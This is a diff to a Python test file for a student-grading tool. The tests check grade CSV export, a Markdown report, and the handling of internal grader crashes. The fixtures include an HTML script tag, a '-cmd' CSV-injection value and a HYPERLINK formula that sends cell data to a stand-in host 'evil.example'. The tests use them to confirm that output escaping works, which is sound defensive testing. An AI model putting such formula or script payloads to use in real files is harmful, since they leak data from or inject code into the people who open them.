@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import csv
 import json
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
@@ -22,6 +24,8 @@ from grader.batch.grades import collect_rows
 from grader.batch.report import HISTOGRAM_FILE, SECTIONS_FILE, write_report
 from grader.batch.runner import OUTCOME_FILE, RESULTS_FILE, Outcome, read_outcome, submission_dir
 from grader.table import load_table
+
+REPO = Path(__file__).resolve().parent.parent
 
 METADATA = """\
 submission_101:
@@ -162,7 +166,13 @@ def _graded_class(tmp_path: Path) -> tuple[Path, list]:
     off = "Off by up to {} (allowed: 0.05).\nmore detail"
     none = {number: (0.0, "missing") for number in full}
     flagged = _results({**full, "1.2.1": (0.0, off.format(0.26))})
-    flagged["extra_data"] = {"integrity": ["answers computed by a forged verdict", "<script>x</script>"]}
+    forged = {
+        "section": 1,
+        "kind": "recorder",
+        "what": "the canary went missing",
+        "where": "<script>x</script>",
+    }
+    flagged["extra_data"] = {"integrity": {"flagged": True, "flags": [forged, {**forged, "section": 2}]}}
     first = {**full, "1.3.2": (0.0, "wrong"), "1.4.2": (0.0, "| **bold** |")}
     _finish(out, submissions[0], Outcome("1", "ok", 3.0), _results(first))
     _finish(out, submissions[1], Outcome("2", "ok", 2.5), flagged)
@@ -211,7 +221,8 @@ def test_grades_csv_has_a_row_per_student_with_status_base_and_extra_credit(tmp_
     assert ada["test_1.4.2"] == "0" and ada["status_1.4.2"] == "failed" and ada["status_1.2.1"] == "passed"
     assert hostile["name"] == "'" + HOSTILE_NAME and hostile["email"] == "'-cmd@example.edu"
     assert hostile["total"] == ada["total"], "a group's members share its grade"
-    assert records[2]["integrity"] == "answers computed by a forged verdict; <script>x</script>"
+    flag = "recorder: the canary went missing (<script>x</script>)"
+    assert records[2]["integrity"] == f"§1 {flag}; §2 {flag}"
     assert records[4]["total"] == "" and records[4]["test_1.2.1"] == "", "a timeout is no grade"
     assert records[5]["total"] == "0" and records[5]["status_1.2.1"] == "no file"
     assert records[8]["total"] == "" and records[8]["message"] == "the grader exited with status 1"
@@ -250,7 +261,7 @@ def test_report_lists_who_to_look_at_and_escapes_what_students_wrote(tmp_path: P
     assert "## Missing notebooks (1)" in report and "| 5 |  | A2S1 |" in report
     assert "## Untouched templates (1)" in report and "| 6 |  | untouched template |" in report
     assert "## Integrity flags (1)" in report
-    assert "answers computed by a forged verdict; &lt;script&gt;x&lt;/script&gt;" in report
+    assert "| 2 |  | §1 recorder: the canary went missing (&lt;script&gt;x&lt;/script&gt;); §2" in report
     assert "## Below 8 of 10 base points (6)" in report
     assert "| 8 |  | internal grader error: the grader exited with status 1 |" in report
     assert '| 1 | Ada; =HYPERLINK("http://evil.example/?"&amp;A1,"Click") | 7.5 |' in report
@@ -258,3 +269,17 @@ def test_report_lists_who_to_look_at_and_escapes_what_students_wrote(tmp_path: P
     assert "- 1× \\| \\*\\*bold\\*\\* \\|" in report
     assert "more detail" not in report
     assert "| 1.2.1 | query121 selects v0 | 2.5 | 0.42 | 1/6 | 5/6 | 0: 5, 2.5: 1 |" in report
+
+
+def test_internal_grader_errors_make_the_batch_fail_and_list_them(tmp_path: Path) -> None:
+    export = _export(tmp_path)
+    crashing = f"{sys.executable} -c 'import sys; print(\"grader crashed\"); sys.exit(3)'"
+    command = [sys.executable, "-m", "grader", "batch", str(export), "--out", str(tmp_path / "out")]
+    command += ["--sections", "1", "--grader-command", crashing]
+    finished = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=300, check=False)
+    assert finished.returncode == 1, finished.stdout + finished.stderr
+    assert "3 submission(s) ended with an internal grader error" in finished.stdout
+    assert "  101 (Ada Lovelace; Alan Turing): the grader exited with status 3" in finished.stdout
+    records = _read(tmp_path / "out" / "grades.csv")
+    assert {r["status"] for r in records} == {"internal grader error"} and len(records) == 4
+    assert all(r["total"] == "" for r in records)
